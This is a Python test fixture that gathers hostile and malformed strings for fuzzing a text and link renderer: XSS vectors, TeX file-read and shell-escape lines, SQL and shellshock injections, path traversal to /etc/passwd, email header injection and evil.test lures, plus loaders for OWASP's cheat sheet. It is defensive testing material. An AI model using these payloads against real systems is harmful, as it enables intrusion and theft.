"""Strings that break things: our own by kind, and the published lists where they lie beside the checkout.

Every vector that could run sets `window.__pwned`, opens a dialog or asks for a file, and each of these is noticed.
"""

import json
import re
from functools import cache

from conftest import ROOT

MATERIAL = ROOT.resolve().parent / "shared" / "material"

OWASP = 110
"""So many vectors the cheat sheet has as blocks of code."""

_ACTIVE = re.compile(r"<\s*[a-z!/?]|script:|&colon;|\bon\w+\s*=", re.IGNORECASE)

TEX = (
    r"$\mathcal{O}(n \log n)$ beats $O(n^2)$",
    r"Schr\"odinger, Erd\H{o}s and P\'al, \L{}ukasz, \c{C}a\u{g}la, {\'E}cole, \o, \ss, \i",
    r"$$\frac{a}{b} < \sqrt[3]{x_{i,j}^{2}}$$ and \(a<b\) and \[c>d\]",
    r"It costs \$5 \& 10\%, \#1, \_x\_, or $5 and $10",
    r"\textbf{bold} \emph{\textit{it}} \texttt{a<b} \url{http://example.org/?a=1&b=<c>}",
    r"\href{javascript:window.__pwned=1}{click} $\href{javascript:window.__pwned=1}{x}$",
    r"$\text{<img src=x onerror=window.__pwned=1>}$ $\mbox{</math><script>window.__pwned=1</script>}$",
    r"$\unicode{60}script\unicode{62}$ $\class{a\" onclick=\"b}{x}$ $\style{background:url(http://x.test/)}{y}$",
    r"$\begin{pmatrix} a & b \\ c & d \end{pmatrix}$ \begin{itemize}\item one\item two\end{itemize}",
    "$ unclosed \\frac{1}{",
    "}}}{{{ \\\\ \\ $ $$ $$$ \\( \\[ \\end{x} \\begin{}",
    r"\def\x{\x\x}\x \newcommand{\y}{\y}\y \input{/etc/passwd} \write18{id} \csname x\endcsname",
    "$" + "{" * 300 + "x" + "}" * 300 + "$",
    "$" + r"\frac{1}{" * 60 + "x" + "}" * 60 + "$",
    "a % a comment of TeX, or a share of 5%",
    r"$\alpha\beta\Gamma\nabla\infty\hbar\ell\aleph\emptyset\varnothing\mathbb{R}\mathfrak{g}\mathscr{L}$",
    r"$x^{2^{2^{2}}}_{i_{j_{k}}}$ $^{13}$C H$_2$O $10^{-3}$ $x^\prime$ $f'$",
    "H$_{2}$O$^{+}$ \u2212 $\\to$ \u221e $\\!\\,\\;\\quad$",
)

MARKUP = (
    "<b>bold</b> & <i>it</i> &amp; &amp;amp; &lt;b&gt; &#60;b&#62; &nbsp; &copy; &bogus; &#0; &#x80; &#xD800;",
    "4 < 8 > 2 && 1 <3 a<b>c</b",
    "]]> <![CDATA[ x ]]> <!-- x --> <!--> --!> <? php ?> <!DOCTYPE html>",
    "</title></style></textarea></script></xmp></noscript></template></svg></math></table></body></html>",
    "<script>window.__pwned=1</script>",
    '"><script>window.__pwned=1</script>',
    "'><img src=x onerror=window.__pwned=1>",
    '" onmouseover="window.__pwned=1" autofocus onfocus="window.__pwned=1" x="',
    "' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1' x='",
    "` onload=window.__pwned=1 ",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1><a xlink:href=javascript:window.__pwned=1><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=window.__pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>x</details><video><source onerror=window.__pwned=1></video>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe><object data=javascript:window.__pwned=1></object>",
    "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css><style>@import '//evil.test/x.css';*{color:red}</style>",
    "<form action=//evil.test><input name=password><button>go</button></form><plaintext>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4- \\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
    "<scr\0ipt>window.__pwned=1</scr\0ipt> <img/src=x/onerror=window.__pwned=1>",
    "{{7*7}} {% raw %} {{ ''.__class__.__mro__ }} ${7*7} #{7*7} <%= 7*7 %> {0} {x.__class__} %s %n %(x)s %%",
)

MARKDOWN = (
    "[x](javascript:window.__pwned=1) ![x](http://evil.test/x.png) <javascript:window.__pwned=1> [x]: http://x.test",
    "# heading\n- item\n1. one\n> quote\n```\ncode\n```\n---\n| a | b |\n|---|---|\n",
    "**bold** __bold__ *it* _it_ `code` ~~gone~~ ==mark== [^1] :smile: @everyone @here <@U123> <!channel> #channel",
    "1. not a list",
    "+ nor this",
    "- nor this",
    "* nor this",
    "    nor code",
    "=====",
    "* * *",
    "\\* \\_ \\\\",
    "`` ` `` ``` ```` [a][b] [a]() ![]() [](x) <http://auto.test/> http://auto.test/?a=b_c_d www.auto.test a@auto.test",
    "[![x](data:image/svg+xml,<svg onload=alert(1)>)](vbscript:msgbox(1))",
    "AT&T &copy; a\\\nb  \nc <!-- --> <br> </p> [TOC] *[HTML]: x",
    "</pre></code> ```\n</details>",
)

UNICODE = (
    "مرحبا بالعالم, שלום עולם, \u202eabc\u202c \u2067x\u2069 \u200fy\u200e",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽 ☺️ 🤷🏿‍♀️ \U0001f9ff",
    "Z̸̡̢̛͎̞͉̘̠͙a̷̢̛̛͍̮̘̓l̴̡̘̬̺̈́̕͝g̷͉̱̘̐̕o̸̬͙͗̕ e\u0301 a\u030a\u0323 \u0301alone",
    "漢字かな交じり文、한국어 เทคโนโลยี हिन्दी ქართული ᏣᎳᎩ 𒀀𒁀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ｆｕｌｌｗｉｄｔｈ",
    "\ufeffbom \u00adsoft\u00adhyphen zero\u200bwidth\u200cnon\u200djoiner \u2060word\u2060joiner \u180e",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform\rreturn\ttab",
    "İstanbul ıßẞﬀﬁ ǅ ΣσςΌ ﷺ ﷽ Å Ω ｱ ㎏ ½",
    "\ud800 \udfff \ud83d alone \udc00\ud800",
    "\0\x01\x02\x07\x08\x0b\x0e\x1b[31mred\x1b[0m\x7f\x80\x9b31m\x9f",
    "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff \ufffd \ue000 \U000f0000",
    "\u3000ideographic\u3000space\u00a0no\u00a0break\u2003em\u2009thin",
    "a" + "\u0300" * 500,
    "\U000e0041\U000e0042 tags \ufe0f\ufe0e \u20e3 \u034f",
)

PROTOCOL = (
    "x\r\nBcc: victim@evil.test\r\n\r\nbody",
    "x\nSubject: y",
    "x\n.\r\n.\nQUIT\r\n",
    "From me to you",
    "\n\nFrom x",
    "=?utf-8?q?=3Cscript=3E?= =?utf-8?b?PHNjcmlwdD4=?=",
    "=3Cscript=3E =\r\n=20 =",
    "a=20b==",
    ".",
    "..",
    "-- ",
    '"quoted" <a@b> (comment) ; , : \\',
    "@comment{x} } @article{y, title = {z}} and others, Jr. # %",
    "TY  - JOUR\r\nER  - ",
    "ER  - \nTY  - BOOK",
    "null\0byte",
    "'; DROP TABLE paper; --",
    "' OR 1=1 --",
    "() { :; }; id",
    "$(id) `id`",
    "../../../../etc/passwd",
    "C:\\Users\\x\\papers.txt",
    "file:///etc/passwd",
    "con",
    "https://[::1",
    "http://a:99999/",
)

ODD = (
    "",
    " ",
    "\n",
    "\t \n",
    "\u00a0",
    "\u200b",
    "\u202e",
    "\0",
    "0",
    "-1",
    "NaN",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    "x",
    "§",
    "…",
    "—",
    ".",
    ",",
    "\\",
    "/",
    "?",
    "#",
    "&",
    "<",
    ">",
    '"',
    "'",
    "`",
    "%",
    "$",
    "{",
    "}",
    "[object Object]",
)

LONG = (
    "w" * 3000,
    "word " * 1200,
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 8,
    "漢" * 2500,
    "&" * 1500,
    "<" * 1500,
    "(" * 1500,
    "a.b/c?d=e&" * 300,
    "𝒳" * 1200,
    "$x$ " * 400,
    "A sentence that is true. " * 200,
)

ADDRESSES = (
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    " javascript:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "java\nscript:window.__pwned=1",
    "\x01javascript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.__pwned=1</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "data:application/x-research-info-systems,TY  - JOUR",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "//evil.test/x",
    "/relative",
    "relative.html",
    "?q",
    "#f",
    "",
    " ",
    "http:",
    "http://",
    "https:///x",
    "http://?x",
    "http://#x",
    "http:x",
    'https://example.org/" onmouseover="window.__pwned=1',
    "https://example.org/'onfocus='window.__pwned=1",
    "https://example.org/<b>",
    "https://example.org/a b",
    "https://example.org/a\nb",
    "https://example.org/%",
    "https://example.org/%zz",
    "https://example.org/%41",
    "https://example.org/[x]",
    "https://example.org/x?a=1&b=2&amp;c=3&copy=4#f#g",
    "https://example.org/ü/漢字?ß=ö#é",
    "https://bücher.example/",
    "https://xn--bcher-kva.example/",
    "https://user:pass@example.org/",
    "https://example.org:8080/x",
    "https://example.org:99999/",
    "https://example.org:port/",
    "https://[::1]/x",
    "https://[::1",
    "https://[x]/",
    "https://exa mple.org/",
    "https://example.org\\@evil.test/",
    "https://ex%41mple.org/",
    "https://-.example/",
    "https://.../",
    "https://a..b/",
    "HTTPS://EXAMPLE.ORG/",
    "http://1113982867/",
    "http://0x42.0x66.0x7.0x93/",
    "https://example.org/\u202ecod.exe",
    "https://example.org/\0x",
    "https://exa\u00admple.org/",
    "https://example.org/" + "x" * 3000,
    "mailto:ana@example.org",
    "mailto:a@b?subject=x&body=y",
    "mailto:",
    "mailto:<script>",
    "https://arxiv.org/abs/2605.00001v3",
    "http://www.arxiv.org/pdf/2605.00001.pdf",
    "https://doi.org/10.1000/X",
    "https://example.org/'\"`{}|^<>",
    "https://example.org/?next=javascript:window.__pwned=1",
    "https://example.org/ https://example.org/",
    "https://!$&'()*+,;=/",
)


@cache
def owasp() -> tuple[str, ...]:
    """The vectors of OWASP's XSS Filter Evasion Cheat Sheet: its blocks of code, then what runs of its inline code.

    Empty where the sheet is not here.
    """
    path = MATERIAL / "xss-filter-evasion.md"
    if not path.exists():
        return ()
    text = path.read_text(encoding="utf-8")
    blocks = re.findall(r"^```\w*\n(.*?)^```", text, re.MULTILINE | re.DOTALL)
    prose = re.sub(r"^```.*?^```", "", text, flags=re.MULTILINE | re.DOTALL)
    inline = [code for code in re.findall(r"(?<!`)`([^`\n]+)`(?!`)", prose) if _ACTIVE.search(code)]
    return (*(block.strip("\n") for block in blocks), *dict.fromkeys(inline))


@cache
def blns() -> tuple[str, ...]:
    """The Big List of Naughty Strings; empty where it is not here."""
    path = MATERIAL / "blns.json"
    return tuple(json.loads(path.read_text(encoding="utf-8"))) if path.exists() else ()


@cache
def texts() -> tuple[str, ...]:
    """All of them that are put into fields of text, each once."""
    return tuple(
        dict.fromkeys((*owasp(), *TEX, *MARKUP, *MARKDOWN, *UNICODE, *PROTOCOL, *ODD, *LONG, *ADDRESSES, *blns()))
    )
